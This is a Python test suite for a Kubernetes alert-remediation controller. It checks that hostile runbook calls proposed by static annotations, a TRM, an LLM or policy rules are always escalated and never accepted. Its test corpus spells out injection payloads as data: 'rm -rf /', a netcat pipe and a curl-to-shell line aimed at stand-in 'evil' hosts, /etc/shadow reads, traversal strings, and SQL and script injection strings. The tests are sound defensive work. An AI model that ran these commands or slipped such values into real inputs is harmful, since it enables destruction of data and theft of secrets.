"""Hostile proposals never reach an accepted decision, whichever stage proposes them.

One corpus of hostile calls (shell metacharacters, path traversal, newlines,
over-long names, flags, out-of-scope namespaces, wrong types, invented or
disallowed functions) is proposed by every stage in turn: the static
annotation, the TRM, the function-calling LLM and a policy rule (which copies
the hostile values from the alert's labels). Each policy has that one stage,
so a hostile value that slipped through would show up as a trigger.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

import httpx
import pytest

from controller.decision import StageClients, decide
from controller.defaults import load_default_policy
from controller.engine.llm_http import HttpChatTransport
from controller.schemas.decision import Decision, StageOutcome
from runbooks import default_catalog

from .helpers import ALL_FUNCTIONS, FakeTRM, event, policy, static_annotation

CATALOG = default_catalog()
SCOPE = ("shop", "web")
NARROW = ("pod-check-status",)
INVALID, DISALLOWED = StageOutcome.INVALID, StageOutcome.DISALLOWED


@dataclass(frozen=True)
class Case:
    id: str
    function: str
    parameters: dict[str, Any]
    expected: StageOutcome = INVALID
    allowed: tuple[str, ...] = ALL_FUNCTIONS
    # Hostile only by its JSON type: as a label (always a string) the value is harmless, e.g. 123.
    type_only: bool = False

    @property
    def names_a_real_function(self) -> bool:
        return self.function in CATALOG


def restart(name: Any = "cart-7f9", namespace: Any = "shop", **extra: Any) -> dict[str, Any]:
    return {"name": name, "namespace": namespace, **extra}


def scale(replicas: Any) -> dict[str, Any]:
    return {"name": "api", "namespace": "shop", "replicas": replicas}


def check(selector: str) -> dict[str, Any]:
    return {"namespace": "shop", "selector": selector}


CORPUS = [
    # names carrying shell metacharacters, injections and traversal
    Case("name-semicolon", "pod-restart", restart("cart; rm -rf /")),
    Case("name-and-and", "pod-restart", restart("cart && reboot")),
    Case("name-pipe", "pod-restart", restart("cart | nc evil.example 1337")),
    Case("name-command-substitution", "pod-restart", restart("$(reboot)")),
    Case("name-backticks", "pod-restart", restart("`id`")),
    Case("name-ifs", "pod-restart", restart("${IFS}cat${IFS}/etc/shadow")),
    Case("name-newline", "pod-restart", restart("cart\nkubectl delete ns shop")),
    Case("name-crlf-header", "pod-restart", restart("cart\r\nX-Injected: 1")),
    Case("name-nul", "pod-restart", restart("cart\x00")),
    Case("name-dotdot-slash", "pod-restart", restart("../../etc/passwd")),
    Case("name-dotdot", "pod-restart", restart("..")),
    Case("name-embedded-traversal", "pod-restart", restart("cart/../../kube-system")),
    Case("name-absolute-path", "pod-restart", restart("/var/run/secrets/kubernetes.io")),
    Case("name-url-encoded-traversal", "pod-restart", restart("%2e%2e%2fetc")),
    Case("name-300-chars", "pod-restart", restart("a" * 300)),
    Case("name-dotted-over-253", "pod-restart", restart("ab." * 90 + "c")),
    Case("name-uppercase", "pod-restart", restart("Cart-7F9")),
    Case("name-flag", "pod-restart", restart("-n")),
    Case("name-long-flag", "pod-restart", restart("--all")),
    Case("name-trailing-space", "pod-restart", restart("cart ")),
    Case("name-leading-space", "pod-restart", restart(" cart")),
    Case("name-empty", "pod-restart", restart("")),
    # whitespace, invisible and look-alike characters (`$` in a `re.match` pattern matches before a final "\n")
    Case("name-trailing-newline", "pod-restart", restart("cart-7f9c6d5b8-x2k4q\n")),
    Case("name-leading-newline", "pod-restart", restart("\ncart")),
    Case("name-trailing-cr", "pod-restart", restart("cart\r")),
    Case("name-trailing-tab", "pod-restart", restart("cart\t")),
    Case("name-zero-width-space", "pod-restart", restart("cart\u200b")),
    Case("name-leading-zero-width", "pod-restart", restart("\u200bcart")),
    Case("name-word-joiner", "pod-restart", restart("ca\u2060rt")),
    Case("name-bom", "pod-restart", restart("\ufeffcart")),
    Case("name-nbsp", "pod-restart", restart("cart\u00a0")),
    Case("name-cyrillic-a", "pod-restart", restart("c\u0430rt")),
    Case("name-fullwidth", "pod-restart", restart("\uff43art")),
    Case("name-dotless-i", "pod-restart", restart("\u0131ngress")),
    Case("name-unicode", "pod-restart", restart("cärt")),
    Case("name-glob", "pod-restart", restart("cart*")),
    Case("name-sql", "pod-restart", restart("cart'; DROP TABLE pods;--")),
    Case("name-html", "pod-restart", restart("<script>alert(1)</script>")),
    Case("name-object", "pod-restart", restart({"$ne": ""})),
    Case("name-list", "pod-restart", restart(["cart-7f9"])),
    Case("name-number", "pod-restart", restart(123), type_only=True),
    # namespaces: outside the scope, or malformed
    Case("namespace-kube-system", "pod-restart", restart(namespace="kube-system")),
    Case("namespace-default", "pod-restart", restart(namespace="default")),
    Case("namespace-semicolon", "pod-restart", restart(namespace="shop; rm -rf /")),
    Case("namespace-traversal", "pod-restart", restart(namespace="../shop")),
    Case("namespace-uppercase", "pod-restart", restart(namespace="SHOP")),
    Case("namespace-64-chars", "pod-restart", restart(namespace="s" * 64)),
    Case("namespace-newline", "pod-restart", restart(namespace="shop\nweb")),
    Case("namespace-wildcard", "pod-restart", restart(namespace="*")),
    Case("namespace-empty", "pod-restart", restart(namespace="")),
    Case("namespace-trailing-newline", "pod-restart", restart(namespace="shop\n")),
    Case("namespace-leading-space", "pod-restart", restart(namespace=" shop")),
    Case("namespace-zero-width", "pod-restart", restart(namespace="shop\u200b")),
    Case("namespace-cyrillic-s", "pod-restart", restart(namespace="\u0455hop")),
    Case("namespace-defaulted-out-of-scope", "flux-reconcile-kustomization", {"name": "podinfo"}),
    Case(
        "namespace-flux-system-out-of-scope", "flux-reconcile-helmrelease", {"name": "kps", "namespace": "flux-system"}
    ),
    Case("pvc-namespace-kube-system", "check-pvc-status", {"namespace": "kube-system"}),
    Case("pvc-name-traversal", "check-pvc-status", {"namespace": "shop", "name": "../data"}),
    Case(
        "gitrepository-name-curl-pipe",
        "flux-reconcile-gitrepository",
        {"name": "repo;curl evil|sh", "namespace": "shop"},
    ),
    # enums
    Case("type-node", "pod-restart", restart(type="node")),
    Case("type-injection", "pod-restart", restart(type="pod; rm -rf /")),
    Case("type-trailing-space", "pod-restart", restart(type="deployment ")),
    # label selectors
    Case("selector-semicolon", "pod-check-status", check("app=x;rm -rf /")),
    Case("selector-set-based", "pod-check-status", check("app in (a,b)")),
    Case("selector-substitution", "pod-check-status", check("app=$(id)")),
    Case("selector-trailing-comma", "pod-check-status", check("app=x,")),
    Case("selector-newline", "pod-check-status", check("app=x\nb=c")),
    Case("selector-trailing-newline", "pod-check-status", check("app=x\n")),
    Case("selector-key-trailing-newline", "pod-check-status", check("app\n=x")),
    Case("selector-existence", "pod-check-status", check("!app")),
    Case("selector-over-long", "pod-check-status", check("a=" + "b" * 64)),
    # replica counts
    Case("replicas-negative", "scale-deployment", scale(-1)),
    Case("replicas-huge", "scale-deployment", scale(100_000)),
    Case("replicas-injection", "scale-deployment", scale("3; rm -rf /")),
    Case("replicas-bool", "scale-deployment", scale(True)),
    Case("replicas-float", "scale-deployment", scale(3.5)),
    Case("replicas-exponent", "scale-deployment", scale("1e3")),
    Case("replicas-list", "scale-deployment", scale([3])),
    Case("replicas-trailing-newline", "scale-deployment", scale("3\n")),
    Case("replicas-arabic-indic-digit", "scale-deployment", scale("\u0663")),
    # parameters the runbook does not have
    Case("extra-command", "pod-restart", restart(command="sh -c id")),
    Case("extra-kubeconfig", "pod-restart", restart(kubeconfig="/etc/kubernetes/admin.conf")),
    # function names
    Case("function-semicolon", "pod-restart; rm -rf /", restart()),
    Case("function-traversal", "../pod-restart", restart()),
    Case("function-uppercase", "POD-RESTART", restart()),
    Case("function-underscore", "pod_restart", restart()),
    Case("function-two-lines", "pod-restart\nscale-deployment", restart()),
    Case("function-invented", "exec-shell", {"command": "id"}),
    Case("function-300-chars", "p" * 300, restart()),
    # valid calls the policy does not allow
    Case("disallowed-scale", "scale-deployment", scale(3), DISALLOWED, NARROW),
    Case("disallowed-restart", "pod-restart", restart(), DISALLOWED, NARROW),
]

assert len(CORPUS) >= 50
assert len({c.id for c in CORPUS}) == len(CORPUS)

HOSTILE_LABELS = {"alertname": "HostileProbe", "severity": "critical"}  # nothing to fill parameters from


def assert_rejected(decision: Decision, case: Case) -> None:
    assert decision.outcome == "escalate", f"{case.id} was accepted: {decision.parameters}"
    assert decision.function is None and decision.parameters == {}
    [trace] = decision.trace
    assert trace.outcome is case.expected, trace.reason
    assert trace.parameters == {}


@pytest.mark.parametrize("case", CORPUS, ids=lambda c: c.id)
async def test_static_annotation_never_accepts_hostile_values(case: Case) -> None:
    p = policy({"staticAnnotation": {}}, allowed=case.allowed, scope=SCOPE)
    e = event(HOSTILE_LABELS, static_annotation(case.function, case.parameters))
    assert_rejected(await decide(e, p, CATALOG, StageClients()), case)


@pytest.mark.parametrize("case", CORPUS, ids=lambda c: c.id)
async def test_trm_never_accepts_hostile_values(case: Case) -> None:
    p = policy({"trm": {"minConfidence": 0.5, "timeoutMs": 5000}}, allowed=case.allowed, scope=SCOPE)
    model = FakeTRM(case.function, case.parameters, confidence=0.99)
    assert_rejected(await decide(event(HOSTILE_LABELS), p, CATALOG, StageClients(trm=model)), case)


@pytest.mark.parametrize("api", ["ollama", "openai"])
@pytest.mark.parametrize("case", CORPUS, ids=lambda c: c.id)
async def test_function_calling_never_accepts_hostile_values(case: Case, api: str) -> None:
    def reply(request: httpx.Request) -> httpx.Response:
        arguments: Any = case.parameters if api == "ollama" else json.dumps(case.parameters)
        call = {"function": {"name": case.function, "arguments": arguments}}
        if api == "ollama":
            return httpx.Response(200, json={"message": {"role": "assistant", "content": "", "tool_calls": [call]}})
        return httpx.Response(200, json={"choices": [{"message": {"role": "assistant", "tool_calls": [call]}}]})

    stage = {"functionCalling": {"endpoint": "http://llm.invalid", "api": api, "timeoutMs": 5000}}
    p = policy(stage, allowed=case.allowed, scope=SCOPE)
    async with httpx.AsyncClient(transport=httpx.MockTransport(reply)) as http:
        assert_rejected(
            await decide(event(HOSTILE_LABELS), p, CATALOG, StageClients(chat=HttpChatTransport(http))), case
        )


def _as_label(value: Any) -> str:
    return value if isinstance(value, str) else json.dumps(value)


@pytest.mark.parametrize("case", [c for c in CORPUS if c.names_a_real_function and not c.type_only], ids=lambda c: c.id)
async def test_rules_never_accept_hostile_label_values(case: Case) -> None:
    # The rule copies every parameter from a label of the same name; the alert carries the hostile values.
    labels = {"alertname": "HostileProbe", **{f"p_{k}": _as_label(v) for k, v in case.parameters.items()}}
    rule = {
        "match": {"alertNames": ["HostileProbe"]},
        "function": case.function,
        "parameters": {k: f"{{{{ $labels.p_{k} }}}}" for k in case.parameters},
    }
    p = policy({"rules": [rule]}, allowed=case.allowed, scope=SCOPE)
    assert_rejected(await decide(event(labels), p, CATALOG, StageClients()), case)


# Under a "*" scope only the name rules stand between a namespace label and the trigger.
WILDCARD_NAMESPACES = [
    "kube-system\n",
    "kube-system\r\n",
    "\nkube-system",
    " kube-system",
    "kube-system ",
    "kube-system\t",
    "kube-system\u200b",
    "\u200bkube-system",
    "kube-\u2060system",
    "kube-\u0455ystem",
    "\uff4bube-system",
    "kube-system\u00a0",
]


@pytest.mark.parametrize("namespace", WILDCARD_NAMESPACES, ids=ascii)
async def test_a_wildcard_scope_refuses_namespaces_that_are_not_kubernetes_names(namespace: str) -> None:
    labels = {"alertname": "HostileProbe", "p_name": "cart-7f9", "p_namespace": namespace}
    rule = {
        "match": {"alertNames": ["HostileProbe"]},
        "function": "pod-restart",
        "parameters": {"name": "{{ $labels.p_name }}", "namespace": "{{ $labels.p_namespace }}"},
    }
    p = policy({"rules": [rule]}, scope=("*",))
    decision = await decide(event(labels), p, CATALOG, StageClients())
    assert decision.outcome == "escalate", decision.parameters
    assert decision.trace[-1].outcome is StageOutcome.INVALID


HOSTILE_NAMES = [
    c.parameters["name"]
    for c in CORPUS
    if c.id.startswith("name-") and isinstance(c.parameters["name"], str) and c.parameters["name"]
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
async def test_the_default_policy_escalates_alerts_with_hostile_labels(name: str) -> None:
    labels = {"alertname": "KubePodCrashLooping", "namespace": "shop", "pod": name, "severity": "warning"}
    decision = await decide(event(labels), load_default_policy(), CATALOG, StageClients())
    assert decision.outcome == "escalate"
    assert decision.trace[-1].outcome is StageOutcome.INVALID


@pytest.mark.parametrize("name", HOSTILE_NAMES[:8])
async def test_static_annotation_does_not_fill_parameters_with_hostile_labels(name: str) -> None:
    labels = {"alertname": "TestPodCrashLoopBackOff", "namespace": "shop", "pod": name}
    p = policy({"staticAnnotation": {}}, scope=SCOPE)
    decision = await decide(event(labels, static_annotation("pod-restart")), p, CATALOG, StageClients())
    assert decision.outcome == "escalate"
    assert decision.trace[0].outcome is StageOutcome.INVALID
    assert "filled name from label pod" in decision.trace[0].reason
